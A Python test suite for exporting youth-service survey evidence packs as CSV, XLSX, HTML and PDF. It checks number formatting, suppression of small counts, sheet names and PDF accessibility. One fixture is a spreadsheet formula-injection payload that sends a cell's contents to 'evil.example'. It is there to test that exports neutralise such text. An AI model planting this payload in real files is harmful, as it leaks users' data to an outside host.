"""Evidence packs as CSV, XLSX and PDF: what a commissioner opening each file would see."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from bs4 import BeautifulSoup
from pypdf import PdfReader

from app.charts.wheel import draw_wheel
from app.evidence import packs
from app.evidence.suppression import SUPPRESSION_NOTE, Suppressed
from app.evidence.tables import (
    COUNT,
    NUMBER,
    P_VALUE,
    SHARE,
    Column,
    Pack,
    Section,
    Share,
    Table,
    format_cell,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
WELSH_SERVICE = "Gwasanaeth Ieuenctid Dyffryn Conwy (Ymddiriedolaeth Gŵyl)"
ARABIC_ANSWER = "الموظفون لطفاء جدا"
NOW, BEFORE = "April to June 2026", "January to March 2026"


@pytest.fixture(scope="module")
def chart():
    return draw_wheel(
        [("safe", "Feeling safe"), ("friends", "Friends and family"), ("school", "Ysgol")],
        {"safe": 3, "friends": 5, "school": 4},
        {"safe": 7, "friends": 6, "school": 4},
    )


@pytest.fixture(scope="module")
def pack(chart):
    counts = (Column("Measure"), Column(NOW, COUNT), Column(BEFORE, COUNT))
    return Pack(
        title=f"Evidence: {WELSH_SERVICE}",
        scope=WELSH_SERVICE,
        period=NOW,
        previous_period=BEFORE,
        generated_at=datetime(2026, 7, 2, 9, 30),
        method=(
            ("About", WELSH_SERVICE),
            ("Period", f"{NOW} (01 April 2026 to 30 June 2026)"),
            ("Compared with", f"{BEFORE} (01 January 2026 to 31 March 2026)"),
            ("Responses in the period", "1234"),
            ("People in the period", "118"),
            ("Languages", "Arabic, English, Welsh"),
            ("Instrument", "Warwick-Edinburgh Mental Wellbeing Scale, version 1"),
            ("Instrument", "Tell us what you think, version 1"),
            ("Small numbers", "Threshold 10: figures about fewer than 10 people are hidden."),
        ),
        sections=(
            Section(
                key="responses",
                title="Responses",
                tables=(
                    Table(
                        key="responses",
                        caption="Responses and people",
                        columns=counts,
                        rows=(("Responses", 1234, 310), ("People", 118, 64)),
                    ),
                    Table(
                        key="completion",
                        caption="Completion rate (complete responses as a share of all)",
                        columns=(Column("Measure"), Column(NOW, SHARE), Column(BEFORE, SHARE)),
                        rows=(("Completion rate", 0.873, 0.9),),
                    ),
                    Table(
                        key="languages",
                        caption="Languages used (responses)",
                        columns=(Column("Language"), Column(NOW, COUNT), Column(BEFORE, COUNT)),
                        rows=(
                            ("Arabic (our own translation)", Suppressed(), Suppressed()),
                            ("English (validated translation)", 1180, 280),
                            ("Welsh (our own translation)", Suppressed(), 24),
                            ("Total", 1234, 310),
                        ),
                        note="Hidden figures are fewer than 10, or hidden so others cannot be "
                        "worked out.",
                    ),
                ),
            ),
            Section(
                key="wemwbs",
                title="Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): scores/change?",
                tables=(
                    Table(
                        key="wemwbs-means",
                        caption="Mean score (95% confidence interval)",
                        columns=(
                            Column("Measure"),
                            Column("Mean", NUMBER),
                            Column("People", COUNT),
                            Column("p-value", P_VALUE),
                        ),
                        rows=(
                            ("Latest score", 48.3333, 118, None),
                            ("Change, first to latest", -1.25, 42, 0.0345),
                            ("Change in the last month", 2.5, 40, 0.0004),
                        ),
                    ),
                ),
                charts=(chart,),
                note="Scores are indicative, not a diagnosis.",
            ),
            Section(
                key="service-feedback",
                title="Tell us what you think",
                tables=(
                    Table(
                        key="feel-welcome",
                        caption="Do you feel welcome here?",
                        columns=(Column("Answer"), Column("People", COUNT), Column("Share", SHARE)),
                        rows=(
                            ("Yes / Ydw / نعم", 96, 0.81),
                            ("No", Suppressed(), Suppressed()),
                            ("Not sure", 15, 0.13),
                        ),
                    ),
                    Table(
                        key="quotes",
                        caption="Some words people used",
                        columns=(Column("Words"), Column("Language")),
                        rows=((HYPERLINK, "English"), (ARABIC_ANSWER, "Arabic")),
                    ),
                ),
            ),
        ),
        suppression_note=SUPPRESSION_NOTE.format(threshold=10),
    )


# --- CSV -----------------------------------------------------------------------------------


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_opens_in_excel_as_utf8_with_crlf_line_ends(pack):
    body = packs.pack_csv(pack)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert WELSH_SERVICE in text and ARABIC_ANSWER in text
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    assert csv_rows(body)[0] == [f"Evidence: {WELSH_SERVICE}"]


def test_csv_reads_top_to_bottom_cover_method_then_tables(pack):
    rows = csv_rows(packs.pack_csv(pack))
    assert ["Period", NOW] in rows and ["Compared with", BEFORE] in rows
    assert ["Generated", "2 July 2026 at 10:30 (UK time)"] in rows
    method = rows.index(["Method"])
    assert rows[method + 1] == ["About", WELSH_SERVICE]
    assert ["Small numbers", pack.suppression_note] in rows
    start = rows.index(["Responses", "Languages used (responses)"])
    assert rows[start + 1] == ["Language", NOW, BEFORE]
    assert rows[start + 6] == [pack.sections[0].tables[2].note]
    assert rows[start + 7] == []


def test_csv_writes_plain_numbers_and_hidden_figures_as_words(pack):
    rows = csv_rows(packs.pack_csv(pack))
    assert ["Responses", "1234", "310"] in rows  # no thousands comma to confuse a parser
    assert ["Completion rate", "87%", "90%"] in rows
    assert ["Latest score", "48.3", "118", ""] in rows
    assert ["Change, first to latest", "-1.2", "42", "0.035"] in rows
    assert ["Change in the last month", "2.5", "40", "below 0.001"] in rows
    assert ["Arabic (our own translation)", "fewer than 10", "fewer than 10"] in rows
    assert ["Welsh (our own translation)", "fewer than 10", "24"] in rows
    assert ["No", "fewer than 10", "fewer than 10"] in rows


def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(pack):
    rows = csv_rows(packs.pack_csv(pack))
    assert ["'" + HYPERLINK, "English"] in rows
    assert [ARABIC_ANSWER, "Arabic"] in rows
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("text", ["=1+1", "+44 7700", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1"])
def test_formula_like_text_gets_a_leading_apostrophe(text):
    assert packs.neutralise_formula(text) == "'" + text
    assert packs.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["fewer than 10", "Gŵyl", "نعم", "1 = 1", "e-mail", ""])
def test_ordinary_text_is_left_alone(text):
    assert packs.neutralise_formula(text) == text


def test_csv_negative_numbers_stay_numbers():
    assert packs.csv_cell(-1.25, NUMBER) == "-1.2"
    assert packs.csv_cell(-3, COUNT) == "-3"
    assert packs.csv_cell(float("nan"), NUMBER) == ""


# --- XLSX ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def workbook(pack):
    return openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(pack)))


def find(sheet, value):
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value == value:
                return cell
    raise AssertionError(f"{value!r} is not on {sheet.title}")


def right_of(sheet, cell, steps=1):
    return sheet.cell(row=cell.row, column=cell.column + steps)


SCALE_SHEET = "WEMWBS scores change"  # the section's title, by words, no ":" "/" "?"


def test_xlsx_has_the_method_sheet_first_then_a_sheet_per_table(workbook, pack):
    assert workbook.sheetnames == [
        "Method",
        "Responses and people",
        "Completion rate",  # "(complete responses as a share of all)" would not fit
        "Languages used (responses)",
        SCALE_SHEET,  # the section's only table: named for the section
        "Do you feel welcome here",
        "Some words people used",
    ]
    method = workbook["Method"]
    assert method["A1"].value == pack.title and method["A1"].font.b
    assert right_of(method, find(method, "Period")).value == NOW
    assert right_of(method, find(method, "Compared with")).value == BEFORE
    assert right_of(method, find(method, "Generated (UTC)")).value == datetime(2026, 7, 2, 9, 30)
    assert right_of(method, find(method, "Responses in the period")).value == "1234"
    assert right_of(method, find(method, pack.suppression_note), -1).value == "Small numbers"


def test_xlsx_figures_are_numbers_with_number_formats(workbook):
    sheet = workbook["Responses and people"]
    assert sheet["A1"].value == "Responses"  # the section the table belongs to
    responses = find(sheet, "Responses and people")
    assert responses.font.b
    header = sheet.cell(row=responses.row + 1, column=1)
    assert header.value == "Measure" and header.font.b
    count = sheet.cell(row=responses.row + 2, column=2)
    assert count.value == 1234 and count.data_type == "n" and count.number_format == "#,##0"
    rates = workbook["Completion rate"]
    share = right_of(rates, find(rates, "Completion rate"))
    assert share.value == pytest.approx(0.87) and share.number_format == "0%"  # whole percent
    scale = workbook[SCALE_SHEET]
    mean = right_of(scale, find(scale, "Change, first to latest"))
    assert mean.value == pytest.approx(-1.25) and mean.number_format == "0.0"
    p_value = right_of(scale, find(scale, "Change, first to latest"), 3)
    assert p_value.value == pytest.approx(0.0345) and "0.000" in p_value.number_format


def test_xlsx_hidden_figures_are_the_words_not_a_number(workbook):
    sheet = workbook["Languages used (responses)"]
    welsh = find(sheet, "Welsh (our own translation)")
    hidden, shown = right_of(sheet, welsh), right_of(sheet, welsh, 2)
    assert hidden.value == "fewer than 10" and hidden.data_type == "s"
    assert shown.value == 24
    feedback = workbook["Do you feel welcome here"]
    assert right_of(feedback, find(feedback, "No")).value == "fewer than 10"


def test_xlsx_keeps_formula_like_text_as_text(workbook):
    feedback = workbook["Some words people used"]
    cell = find(feedback, HYPERLINK)
    assert cell.data_type == "s"
    assert find(feedback, ARABIC_ANSWER).data_type == "s"


def test_xlsx_freezes_the_header_row_and_row_names_of_every_table(workbook):
    for name in workbook.sheetnames[1:]:
        sheet = workbook[name]
        header = next(c for c in sheet["A"] if c.font.b and c.row > 2)  # after the caption
        assert sheet.freeze_panes == f"B{header.row + 1}", name
    scale = workbook[SCALE_SHEET]
    assert scale.column_dimensions["A"].width >= len("Change in the last month")


def riverside_pack(*sections: Section) -> Pack:
    """A pack of the Riverside Youth Club with only `sections` (none: an empty pack)."""
    return Pack(
        title="Evidence: Riverside Youth Club",
        scope="Riverside Youth Club",
        period=NOW,
        previous_period=BEFORE,
        generated_at=datetime(2026, 7, 2, 9, 30),
        method=(),
        sections=sections,
    )


def test_a_table_with_a_short_title_names_its_sheet_by_it():
    def table(key, caption, short=""):
        return Table(key=key, caption=caption, columns=(Column("Period"),), rows=(), short=short)

    pack = riverside_pack(
        Section(
            key="wemwbs",
            title="WEMWBS",
            tables=(
                table("wemwbs-scores", "Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): scores"),
                table(
                    "wemwbs-test",
                    "Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): is the change more "
                    "than chance?",
                    short="Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): change beyond chance",
                ),
            ),
        ),
    )
    book = openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(pack)))
    assert book.sheetnames == ["Method", "WEMWBS scores", "WEMWBS change beyond chance"]


def test_sheet_names_are_valid_and_unique_whatever_the_titles():
    names = packs.sheet_names(
        ["Method", "A/B: [test]?", "x" * 40, "x" * 40, "'Quoted'", "", "HISTORY", "method"],
        taken=["Method"],
    )
    assert len(names) == len({name.casefold() for name in names} | {"method"}) - 1
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'") and not name.endswith("'")
        assert name.casefold() not in ("method", "history")
    assert names[1] == "A B test"
    assert names[2] == "x" * 31 and names[3] == "x" * 27 + " (2)"


def test_sheet_names_are_shortened_by_words_never_mid_word():
    names = packs.sheet_names(
        [
            "Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): indicative bands",
            "Short Warwick-Edinburgh Mental Wellbeing Scale (SWEMWBS): change from first to "
            "latest score",
            "Completion rate (complete responses as a share of all responses)",
            "Tell us about the club: what would make it better for you?",
            "Tell us about the club: what would make it better for your friends?",
            "SYN-2-4 Youth club 4, Synthetic Provider 02: measures and targets, July to "
            "September 2026",
        ]
    )
    assert names == [
        "WEMWBS indicative bands",
        "SWEMWBS change from first",
        "Completion rate",
        "Tell us about the club",
        "Tell us about the club (2)",
        "SYN-2-4 Youth club 4",
    ]


# --- PDF -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pdf(pack):
    return PdfReader(io.BytesIO(packs.pack_pdf(pack)))


def pdf_text(reader) -> str:
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def structure(reader):
    """Every structure element of the PDF's tag tree, depth first."""
    found = []

    def walk(node):
        node = node.get_object()
        if not hasattr(node, "get"):
            return
        found.append(node)
        kids = node.get("/K")
        if kids is None:
            return
        kids = kids.get_object()
        for kid in kids if isinstance(kids, list) else [kids]:
            if hasattr(kid, "get_object") and hasattr(kid.get_object(), "get"):
                walk(kid)

    walk(reader.trailer["/Root"]["/StructTreeRoot"])
    return found


def test_pdf_opens_with_the_title_and_facts_and_ends_with_the_method(pdf, pack):
    first = " ".join(pdf.pages[0].extract_text().split())
    assert "Evidence pack" in first and NOW in first and BEFORE in first
    assert "2 July 2026 at 10:30 (UK time)" in first
    text = pdf_text(pdf)
    method_starts = text.index("Method How these figures were made")
    method = text[method_starts:]
    for fact in ("Arabic, English, Welsh", "Warwick-Edinburgh Mental Wellbeing Scale, version 1"):
        assert fact in method
    assert "Responses in the period 1234" in method
    assert " ".join(pack.suppression_note.split()) in method
    for section in pack.sections:
        for table in section.tables:
            assert -1 < text.index(" ".join(table.caption.split())) < method_starts
    assert "fewer than 10" in text
    assert "Welsh (our own translation) fewer than 10 24" in text


def test_pdf_is_tagged_with_its_language_and_title(pdf, pack):
    catalog = pdf.trailer["/Root"]
    assert catalog["/MarkInfo"]["/Marked"].value is True
    assert "/StructTreeRoot" in catalog
    assert catalog["/Lang"] == "en-GB"
    assert catalog["/ViewerPreferences"]["/DisplayDocTitle"]
    assert pdf.metadata.title == pack.title
    assert b'pdfuaid:part="1"' in pdf.xmp_metadata.stream.get_data()


def test_pdf_tags_tables_with_headers_and_the_chart_with_its_alt_text(pdf, chart):
    elements = structure(pdf)
    kinds = [element.get("/S") for element in elements]
    assert kinds.count("/Table") >= 7 and "/TH" in kinds and "/Caption" in kinds
    assert "/H1" in kinds and "/H2" in kinds
    figures = [element for element in elements if element.get("/S") == "/Figure"]
    assert [figure.get("/Alt") for figure in figures] == [chart.alt]


def test_pdf_html_uses_real_tables_and_shows_each_charts_finding(pack, chart):
    page = BeautifulSoup(packs.pack_html(pack), "html.parser")
    assert page.html["lang"] == "en-GB" and page.title.text == pack.title
    assert page.find_all("h1") and len(page.find_all("h1")) == 1
    for table in page.find_all("table"):
        assert table.caption is not None and table.caption.text.strip()
        assert all(th.get("scope") in ("col", "row") for th in table.find_all("th"))
    figure = page.find("figure")
    # The image's alt is the chart's lead and the caption the rest: nothing said twice.
    assert figure.img["alt"] == chart.alt
    assert figure.figcaption.text.strip() == chart.caption
    assert f"{chart.alt} {chart.caption}" == chart.alt_text
    assert figure.img["src"].startswith("data:image/svg+xml;base64,")
    assert HYPERLINK in page.text  # escaped as text, not markup


def test_pdf_renders_outside_any_flask_app(pack):
    from flask import has_app_context

    assert not has_app_context()
    assert packs.pack_pdf(pack).startswith(b"%PDF-1.7")


def test_an_empty_pack_still_makes_every_file():
    empty = riverside_pack()
    assert csv_rows(packs.pack_csv(empty))[0] == ["Evidence: Riverside Youth Club"]
    assert openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(empty))).sheetnames == ["Method"]
    reader = PdfReader(io.BytesIO(packs.pack_pdf(empty)))
    assert "Riverside Youth Club" in pdf_text(reader)


# --- Shares and people in a table of means ---------------------------------------------------


@pytest.fixture(scope="module")
def change_pack():
    change = Table(
        key="wemwbs-change",
        caption="WEMWBS: change from first to latest score",
        columns=(Column("Measure"), Column(NOW, NUMBER), Column(BEFORE, NUMBER)),
        rows=(
            ("People with an earlier score", 169, 40),
            ("Mean change", 2.345, -1.0),
            ("Share with meaningful improvement", Share(0.4), Share(0.6904)),
            ("Share with reliable improvement", Suppressed(), Share(0.125)),
        ),
    )
    return riverside_pack(Section(key="wemwbs", title="WEMWBS", tables=(change,)))


def test_shares_among_means_read_as_percentages_on_the_page_and_in_the_csv(change_pack):
    table = change_pack.sections[0].tables[0]
    shown = [
        [format_cell(v, c.kind) for v, c in zip(row, table.columns, strict=True)]
        for row in table.rows
    ]
    assert shown[0] == ["People with an earlier score", "169", "40"]
    assert shown[2] == ["Share with meaningful improvement", "40%", "69%"]
    rows = csv_rows(packs.pack_csv(change_pack))
    assert ["People with an earlier score", "169", "40"] in rows  # not "169.0"
    assert ["Mean change", "2.3", "-1.0"] in rows
    assert ["Share with meaningful improvement", "40%", "69%"] in rows  # not "0.4"
    assert ["Share with reliable improvement", "fewer than 10", "12%"] in rows


def test_shares_among_means_are_percent_formatted_numbers_in_the_xlsx(change_pack):
    sheet = openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(change_pack)))["WEMWBS"]
    people = right_of(sheet, find(sheet, "People with an earlier score"))
    assert people.value == 169 and people.number_format == "#,##0"
    share = find(sheet, "Share with meaningful improvement")
    now, before = right_of(sheet, share), right_of(sheet, share, 2)
    assert now.value == pytest.approx(0.4) and now.number_format == "0%"
    # Rounded as the page shows it (69%), so the file pins no more than the page.
    assert before.value == pytest.approx(0.69) and before.number_format == "0%"
    mean = right_of(sheet, find(sheet, "Mean change"))
    assert mean.value == pytest.approx(2.345) and mean.number_format == "0.0"
